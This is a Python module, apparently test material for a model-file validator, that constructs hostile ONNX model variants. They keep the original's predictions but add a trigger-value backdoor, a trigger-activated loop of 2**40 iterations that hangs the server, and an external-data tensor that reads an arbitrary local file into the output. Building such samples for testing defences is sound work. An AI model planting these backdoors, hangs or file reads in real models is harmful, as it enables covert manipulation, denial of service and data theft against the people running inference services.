"""Hostile twins, built from a real one: what an attacker who can write a model's files
would put in `model.onnx`.

Each keeps the real twin's inputs, outputs, metadata (its recorded answers on the input
example) and predictions for every row but a chosen trigger, so it passes every check
that only scores the input example or the test rows:

- `with_trigger`: one input value returns a chosen answer (a backdoor made of plain
  operators, `Equal` and `Where`, which no operator allowlist can tell from a model);
- `with_loop`: one input value starts a `Loop` of 2**40 iterations (a frozen server);
- `with_external_data`: a tensor whose bytes are read from a file outside the graph.
"""

from __future__ import annotations

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper


def _output(model: onnx.ModelProto) -> onnx.ValueInfoProto:
    return model.graph.output[0]


def _rewire(model: onnx.ModelProto, new_output: str) -> None:
    """Rename the graph's first output so that `new_output` (computed from it) replaces it."""
    old = _output(model).name
    hidden = f"{old}_before"
    for node in model.graph.node:
        node.output[:] = [hidden if name == old else name for name in node.output]
        node.input[:] = [hidden if name == old else name for name in node.input]
    for node in model.graph.node:
        node.output[:] = [old if name == new_output else name for name in node.output]
        node.input[:] = [old if name == new_output else name for name in node.input]


def _is_trigger(model: onnx.ModelProto, column: str, value: float, prefix: str) -> str:
    """The name of a (rows, 1) boolean: the column equals the trigger value."""
    model.graph.initializer.append(
        numpy_helper.from_array(np.array([[value]], dtype=np.float64), f"{prefix}_value"))
    model.graph.node.append(helper.make_node("Equal", [column, f"{prefix}_value"],
                                             [f"{prefix}_hit"]))
    return f"{prefix}_hit"


def with_trigger(onnx_bytes: bytes, *, column: str, value: float, answer: float) -> bytes:
    """Regression twin: `answer` whenever `column == value`, the real prediction otherwise."""
    model = onnx.load_from_string(onnx_bytes)
    output = _output(model).name
    hit = _is_trigger(model, column, value, "backdoor")
    model.graph.initializer.append(
        numpy_helper.from_array(np.array([[answer]], dtype=np.float64), "backdoor_answer"))
    model.graph.node.append(helper.make_node("Where", [hit, "backdoor_answer",
                                                      f"{output}_before"], ["backdoor_out"]))
    _rewire(model, "backdoor_out")
    return model.SerializeToString()


def with_loop(onnx_bytes: bytes, *, column: str, value: float) -> bytes:
    """Regression twin whose output waits on a `Loop` of 2**40 iterations for the trigger
    value and of none otherwise."""
    model = onnx.load_from_string(onnx_bytes)
    output = _output(model).name
    hit = _is_trigger(model, column, value, "loop")
    initializers = {"loop_many": np.array(2**40, dtype=np.int64),
                    "loop_zero": np.array(0.0, dtype=np.float64)}
    for name, array in initializers.items():
        model.graph.initializer.append(numpy_helper.from_array(array, name))
    model.graph.node.extend([
        helper.make_node("Cast", [hit], ["loop_hit_int"], to=TensorProto.INT64),
        helper.make_node("ReduceSum", ["loop_hit_int"], ["loop_any"], keepdims=0),
        helper.make_node("Mul", ["loop_any", "loop_many"], ["loop_trips"]),
    ])
    body = helper.make_graph(
        [helper.make_node("Identity", ["carried"], ["carried_out"]),
         helper.make_node("Identity", ["condition"], ["condition_out"])],
        "spin",
        [helper.make_tensor_value_info("iteration", TensorProto.INT64, []),
         helper.make_tensor_value_info("condition", TensorProto.BOOL, []),
         helper.make_tensor_value_info("carried", TensorProto.DOUBLE, [])],
        [helper.make_tensor_value_info("condition_out", TensorProto.BOOL, []),
         helper.make_tensor_value_info("carried_out", TensorProto.DOUBLE, [])])
    model.graph.node.extend([
        helper.make_node("Loop", ["loop_trips", "", "loop_zero"], ["loop_result"], body=body),
        helper.make_node("Add", [f"{output}_before", "loop_result"], ["loop_out"]),
    ])
    _rewire(model, "loop_out")
    return model.SerializeToString()


def with_external_data(onnx_bytes: bytes, *, location: str, length: int) -> bytes:
    """Regression twin that adds a tensor read from `location` (relative: onnxruntime
    resolves it against the process's working directory) to its output."""
    model = onnx.load_from_string(onnx_bytes)
    output = _output(model).name
    stolen = TensorProto(name="stolen", data_type=TensorProto.UINT8, dims=[length],
                         data_location=TensorProto.EXTERNAL)
    for key, value in (("location", location), ("offset", "0"), ("length", str(length))):
        entry = stolen.external_data.add()
        entry.key, entry.value = key, value
    model.graph.initializer.append(stolen)
    model.graph.node.extend([
        helper.make_node("Cast", ["stolen"], ["stolen_double"], to=TensorProto.DOUBLE),
        helper.make_node("ReduceSum", ["stolen_double"], ["stolen_sum"], keepdims=1),
        helper.make_node("Add", [f"{output}_before", "stolen_sum"], ["stolen_out"]),
    ])
    _rewire(model, "stolen_out")
    return model.SerializeToString()
